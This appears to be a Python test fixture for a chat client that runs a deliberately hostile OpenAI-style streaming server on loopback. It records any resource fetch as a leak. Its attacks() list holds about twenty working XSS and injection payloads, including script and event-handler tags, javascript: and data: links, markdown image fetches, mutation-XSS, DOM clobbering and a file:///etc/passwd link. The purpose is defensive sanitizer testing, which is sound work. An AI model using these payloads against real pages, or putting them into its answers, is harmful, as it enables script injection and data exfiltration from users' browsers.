"""A server as any OpenAI-style engine may meet one, whose answers try to do in a browser what no answer may do."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator

PIECE_CHARACTERS = 7  # of a streamed piece: cuts tags and links in the middle
HEAD_BYTES_MAX = 64 * 1024


OF_THE_ENGINE = {("POST", "/apply-template"), ("POST", "/tokenize"), ("GET", "/props")}
"""What the device's engine asks to find out whether this is llama.cpp's own server."""


class HostileServer:
    """Answers each chat with `text`; counts in `fetched` whatever else is asked of it: that is what got out."""

    def __init__(self) -> None:
        self.text = ""
        self.fetched: list[str] = []
        self.port = 0

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self.port}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One request of one connection."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            method, path, _ = head.split(" ", 2)
            length = next(
                (int(line.split(":")[1]) for line in head.lower().split("\r\n") if line.startswith("content-length:")),
                0,
            )
            await reader.readexactly(length)
            if (method, path) == ("POST", "/v1/chat/completions"):
                await self._stream(writer)
            elif (method, path) == ("GET", "/v1/models"):
                _write(writer, "application/json", json.dumps({"object": "list", "data": [{"id": "hostile"}]}))
            elif (method, path) in OF_THE_ENGINE:
                writer.write(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
            else:
                self.fetched.append(f"{method} {path}")
                _write(writer, "text/javascript", "window.pwned = 'remote script';")
            await writer.drain()
        writer.close()

    async def _stream(self, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n")
        for start in range(0, len(self.text), PIECE_CHARACTERS):
            piece = {"choices": [{"index": 0, "delta": {"content": self.text[start : start + PIECE_CHARACTERS]}}]}
            writer.write(f"data: {json.dumps(piece)}\n\n".encode())
            if start % (20 * PIECE_CHARACTERS) == 0:
                await writer.drain()
        end = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
        writer.write(f"data: {json.dumps(end)}\n\ndata: [DONE]\n\n".encode())


@contextlib.asynccontextmanager
async def hostile_server() -> AsyncIterator[HostileServer]:
    """One that listens on loopback."""
    hostile = HostileServer()
    server = await asyncio.start_server(hostile.serve, "127.0.0.1", 0, limit=HEAD_BYTES_MAX)
    hostile.port = server.sockets[0].getsockname()[1]
    try:
        yield hostile
    finally:
        server.close()


def _write(writer: asyncio.StreamWriter, kind: str, body: str) -> None:
    data = body.encode()
    writer.write(
        f"HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {len(data)}\r\nconnection: close\r\n\r\n".encode()
    )
    writer.write(data)


def attacks(url: str) -> list[str]:
    """Answers that would run script, fetch something from `url`, or leave the page, if a browser took them as HTML."""
    return [
        f"<script>window.pwned = 'script'</script><script src=\"{url}/script.js\"></script>",
        f'<img src=x onerror="window.pwned = \'onerror\'"><img src="{url}/pixel.gif">',
        "<svg onload=\"window.pwned = 'svg'\"><script>window.pwned = 'svg script'</script></svg>",
        f'<iframe src="{url}/frame" srcdoc="<script>parent.pwned = 1</script>"></iframe><object data="{url}/o">',
        f'<link rel=stylesheet href="{url}/s.css"><style>@import url({url}/i.css); body {{ display: none }}</style>',
        f'<meta http-equiv="refresh" content="0; url={url}/refresh"><base href="{url}/">',
        f'<form action="{url}/form"><input autofocus onfocus="window.pwned = \'focus\'; this.form.submit()"></form>',
        f'<audio src="{url}/a" autoplay></audio><video  poster="{url}/p" onloadstart="window.pwned = 1"></video>',
        f'![picture]({url}/markdown.png) ![ref][r]\n\n[r]: {url}/reference.png "title"',
        f"![x](\"onerror=\"window.pwned='attribute') ![y]({url}/y.png\"onload=\"window.pwned='onload')",
        "[click me](javascript:window.pwned='link') [or me](JaVaScRiPt&colon;window.pwned='entity')",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:window.pwned='auto'>",
        "[file](file:///etc/passwd) [view](view-source:http://x) [blob](blob:http://x/y) [vb](vbscript:x)",
        "```html\n</code></pre><script>window.pwned = 'fence'</script>\n```",
        "```\"><img src=x onerror=window.pwned='language'>\ncode\n```",
        "`</code><script>window.pwned = 'code'</script>`\n\n| <img src=x onerror=window.pwned='cell'> |\n|-|\n| x |",
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=x onerror=window.pwned='mutation'&gt;\">",
        '<a href="x" style="position:fixed;inset:0" onclick="window.pwned=\'overlay\'">anywhere</a>',
        '<div id="root"></div><form id="app" name="location"><input name="body"></form><a id="moamesh"></a>',
        "> " * 400 + "deep\n\n" + "* " * 300 + "deeper " + "[" * 2000 + "](" + "_a" * 3000,
    ]


HARMLESS = "\n\nA [page](https://example.org/path) and the last word: unharmed."
